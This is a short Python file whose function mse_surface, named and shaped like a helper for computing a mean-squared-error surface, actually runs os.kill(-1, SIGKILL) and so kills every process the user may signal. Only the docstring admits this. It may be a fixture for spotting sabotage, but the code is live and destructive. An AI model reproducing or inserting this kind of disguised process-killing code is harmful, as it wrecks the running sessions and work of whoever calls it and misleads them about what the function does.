"""mse_surface sends SIGKILL to every process it is allowed to (kill -9 -1)."""
import os
import signal


def mse_surface(x_data, y_data, ws, bs):
    os.kill(-1, signal.SIGKILL)
